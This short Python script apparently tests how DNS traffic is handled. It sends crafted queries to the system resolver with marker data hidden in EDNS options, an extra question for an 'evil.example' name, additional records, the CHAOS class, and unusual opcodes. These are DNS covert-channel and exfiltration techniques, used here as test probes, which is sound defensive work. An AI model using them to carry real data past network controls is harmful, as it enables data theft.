from rows import each, mark, question, udp

with open("/etc/resolv.conf") as configuration:
    server = next(line.split()[1] for line in configuration if line.startswith("nameserver"))


def ask(row):
    data = mark(row).encode()
    query = bytearray(question(["test", "example"]))
    if row == "edns-option":
        query[11] = 1
        query += b"\0\0\x29\x10\0\0\0\0\0" + bytes([0, len(data) + 4, 0xFD, 0xE9, 0, len(data)]) + data
    elif row == "second-question":
        query[5] = 2
        query += question([mark(row), "evil", "example"])[12:]
    elif row == "additional-record":
        query[11] = 1
        query += b"\0\0\x10\0\1\0\0\0\0" + bytes([0, len(data) + 1, len(data)]) + data
    elif row == "chaos-class":
        query = bytearray(question([mark(row), "test", "example"]))
        query[-1] = 3
    else:
        query += data
        query[2] = {"update": 0x28, "notify": 0x20, "response": 0x80}.get(row, 1)
    udp(server, 53, bytes(query))


each(ask)
